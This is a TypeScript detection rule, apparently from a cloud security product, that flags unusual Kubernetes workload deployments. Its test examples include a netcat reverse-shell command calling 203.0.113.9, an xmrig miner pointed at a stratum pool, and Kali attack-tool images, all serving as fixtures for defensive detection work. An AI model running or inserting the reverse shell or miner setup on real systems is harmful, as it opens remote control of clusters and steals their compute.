import { isTelling } from '#services/behaviour/kubernetes/running.ts';
import { workloadOf } from '#services/sources/eks-audit/workload.ts';
import { defineAnomalousDeeds } from '../kits/anomalous-deeds.ts';
import { after, APPLICATION, atFirst, byThief, containersOf, DEPLOYMENTS, LOOKS, runs } from '../kits/deed-stories.ts';
import { workloadDetails } from '../kits/kubernetes-workload.ts';

export default defineAnomalousDeeds({
  type: 'Execution:Kubernetes/AnomalousBehavior.WorkloadDeployed',
  tactic: 'WorkloadDeployed',
  title: 'A workload was deployed in an unusual way',
  why: 'Attackers deploy workloads to mine cryptocurrency, to attack others, or to keep their access.',
  asks: 'Did an identity run an image in a cluster that does not usually do so, or an image that only intruders run?',
  attack: ['T1610'],
  severity: 'Low',
  worse: {
    severity: 'Medium',
    when: 'its image is an attack tool or a miner, or its command is typical of intruders',
    of: (record) => workloadOf(record).containers.some(isTelling),
  },
  did: 'ran workloads in',
  isDeployed: true,
  workload: workloadDetails,
  asff: 'TTPs/AnomalousBehavior/Execution:Kubernetes-WorkloadDeployed',
  respond: [
    'Ask whoever ran it what it is for, and where the image comes from.',
    'If it was not them, remove their permissions in the cluster, delete the workload, and replace the nodes that it ran on.',
    'Let an admission policy reject images that are not from your registries.',
  ],
  blindTo: [
    'Which of many images of one registry it is: only registries are told apart.',
    'Workloads that your own controllers create in kube-system, or from custom resources.',
    'Requests whose object is not in the log.',
  ],
  falsePositives: ['Tests of the defences of a cluster with attack tools.'],
  examples: {
    fires: {
      'an image with attack tools': () =>
        atFirst(runs('create', 'pods', {}, containersOf('kalilinux/kali-rolling:latest'))),
      'a miner on every node, privileged as agents are': () => ({
        ...atFirst(
          runs('create', 'daemonsets', {}, containersOf('xmrig/xmrig:6', { securityContext: { privileged: true } })),
        ),
        also: ['PrivilegeEscalation:Kubernetes/PrivilegedContainer'],
      }),
      'a miner in an image of its own': () =>
        atFirst(
          runs(
            'create',
            'deployments',
            {},
            containersOf('busybox', { args: ['-o', 'stratum+tcp://pool.example:3333'] }),
          ),
        ),
      'the image of a pod is exchanged for one with attack tools': () =>
        atFirst(runs('patch', 'pods', {}, containersOf('kalilinux/kali-rolling'))),
      'a command that opens a reverse shell': () =>
        atFirst(
          runs(
            'create',
            'deployments',
            {},
            containersOf('busybox', {
              command: ['sh', '-c', 'mkfifo /tmp/f; nc 203.0.113.9 443 </tmp/f | sh >/tmp/f'],
            }),
          ),
        ),
      'the token of an application, used outside the cluster': () =>
        after(20, APPLICATION, runs('create', 'pods', {}, containersOf('busybox'), byThief('shop', 'web'))),
    },
    quiet: {
      'a pipeline installs twenty products on the first day': () =>
        atFirst(
          ...Array.from({ length: 20 }, (_, i) =>
            runs('create', 'deployments', { namespace: `ns-${i}` }, containersOf(`registry.example/product-${i}:1`)),
          ),
        ),
      'a pipeline uses another registry': () =>
        after(30, DEPLOYMENTS, runs('create', 'deployments', {}, containersOf('quay.io/example/proxy:2'))),
      'somebody tries an image': () => after(30, LOOKS, runs('create', 'pods', {}, containersOf('curlimages/curl'))),
      'a workload is only scaled': () =>
        after(
          30,
          LOOKS,
          runs('patch', 'deployments', { name: 'web' }, {}, { requestObject: { spec: { replicas: 9 } } }),
        ),
      'a dry run': () =>
        atFirst(
          runs('create', 'pods', {}, containersOf('kalilinux/kali-rolling'), {
            requestURI: '/api/v1/namespaces/shop/pods?dryRun=All',
          }),
        ),
      'an image with a similar name': () =>
        atFirst(runs('create', 'pods', {}, containersOf('registry.example/xmrig-detector:1'))),
    },
  },
});
